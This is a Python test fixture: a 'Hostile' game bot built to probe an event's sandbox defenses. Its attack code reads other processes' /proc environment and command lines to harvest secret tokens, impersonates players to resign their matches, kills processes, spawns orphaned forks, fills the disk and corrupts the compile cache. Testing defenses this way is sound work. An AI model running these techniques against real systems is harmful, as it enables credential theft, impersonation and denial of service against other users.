"""A bot that tries to win by attacking the event, as a test of the event's defenses.

Its file is copied next to an honest bot's. On its first move it tries all attacks. It reads the
system's data about other processes, the event's files and its database. If it finds a player's
secret, it connects as that player and resigns. It kills processes, starts some that leave its
session and process group, fills the disk, connects to the network and corrupts the compile cache.
It reports successful attacks on stderr, one JSON object per line: ``{"did": "read", "what": "...",
...}``. Otherwise it plays legal moves.

It imports nothing from the tests, so that the file can be copied. ``FORAY`` in its text is replaced
with its settings: where to look, and a word that marks its processes.
"""

from __future__ import annotations

import asyncio
import contextlib
import glob
import json
import os
import re
import signal
import socket
import sys
import threading
import time
from typing import Any

from kibitz import Bot, Client, Turn

FORAY: dict[str, str] = {}
"""``near`` is a directory to look in; ``mark`` is in the command lines of all started processes."""
SECRET = re.compile(rb"[A-Za-z0-9_-]{22,64}")
STORM = 60


def tell(did: str, what: object) -> None:
    sys.stderr.write(json.dumps({"did": did, "what": str(what)[:200]}) + "\n")
    sys.stderr.flush()


def read(path: str) -> bytes:
    with contextlib.suppress(OSError), open(path, "rb") as file:
        return file.read(1 << 20)
    return b""


def others() -> list[int]:
    """Return processes that look like entrants or the event itself."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (os.getpid(), os.getppid()):
            line = read(f"/proc/{name}/cmdline")
            if FORAY["near"].encode() in line:
                found.append(int(name))
    return found


def secrets() -> set[str]:
    """Return all strings that might be another entrant's secret."""
    texts = []
    for pid in others():
        texts += [read(f"/proc/{pid}/{part}") for part in ("cmdline", "environ")]
        for each in glob.glob(f"/proc/{pid}/fd/*"):
            if os.path.islink(each) and not os.path.isdir(each):
                with contextlib.suppress(OSError):
                    tell("descriptor", os.readlink(each))
    for path in glob.glob(FORAY["near"] + "/**", recursive=True):
        if path.endswith((".py", ".pyc", ".err")) or not (text := read(path)):
            continue
        tell("read", path)
        if path.endswith((".resume", ".token")):
            texts.append(text)
    return {found.decode() for text in texts for found in SECRET.findall(text)}


async def resign_for(secret: str, url: str) -> None:
    """Connect as another player and resign."""
    with contextlib.suppress(Exception):
        async with Client(url, resume=secret, opening=2, patience=2) as client:
            if "Hostile" in client.name or "arena" in client.name:
                return
            tell("became", client.name)
            for match in client.welcome.seats:
                with contextlib.suppress(Exception):
                    await client.rejoin(match)
                    await client.resign(match)
                    tell("resigned", match)


def resign_for_others(url: str) -> None:
    for secret in secrets():
        asyncio.run(resign_for(secret, url))


def storm() -> None:
    """Start processes that leave the session and the process group and become orphans."""
    started = 0
    all_begun, begins = os.pipe()
    for _ in range(STORM):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            os.setsid()
            if os.fork() == 0:
                code = "import time; time.sleep(120)"
                os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", code, FORAY["mark"]])
            os._exit(0)
        os.waitpid(child, 0)
        started += 1
    # Until a child has called exec it looks like this bot and must not be taken for another
    # entrant.
    os.close(begins)
    os.read(all_begun, 1)
    os.close(all_begun)
    tell("forked", started)


def kill_others() -> None:
    for pid in others():
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
            tell("killed", pid)


def fill(directory: str) -> None:
    """Fill the disk, up to some GiB."""
    written, block = 0, b"\0" * (64 << 20)
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with contextlib.suppress(OSError), open(os.path.join(directory, "full"), "wb") as file:
        while written < 1 << 30:
            written += file.write(block)
    with contextlib.suppress(OSError):
        os.unlink(os.path.join(directory, "full"))
    if written > 512 << 20:
        tell("filled", f"{directory} {written}")


def spoil(directory: str) -> None:
    with contextlib.suppress(OSError), open(os.path.join(directory, "spoilt"), "w") as file:
        file.write("spoilt")
        tell("spoilt", directory)


def network(port: int) -> None:
    """Connect to something other than the server: a port on which the test listens."""
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2):
        tell("connected", port)


def pages(url: str) -> None:
    """Read a page from the server over HTTP."""
    host, port = url.rpartition("/")[2].split(":")
    with contextlib.suppress(OSError), socket.create_connection((host, int(port)), 2) as there:
        there.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
        if b"200" in there.recv(64):
            tell("page", url)


def attack() -> None:
    url = sys.argv[sys.argv.index("--url") + 1]
    storm()
    resign_for_others(url)
    network(int(FORAY["port"]))
    pages(url)
    spoil(FORAY["cache"])
    fill(os.environ.get("TMPDIR", "/tmp"))
    for _ in range(8):
        if FORAY["kill"]:
            kill_others()
        time.sleep(0.2)
        resign_for_others(url)
    tell("done", "")


class Hostile(Bot):
    name = "Hostile"
    begun = False

    def choose(self, turn: Turn) -> Any:
        if not Hostile.begun:
            Hostile.begun = True
            threading.Thread(target=attack, daemon=True).start()
        time.sleep(0.05)
        return turn.legal[0]
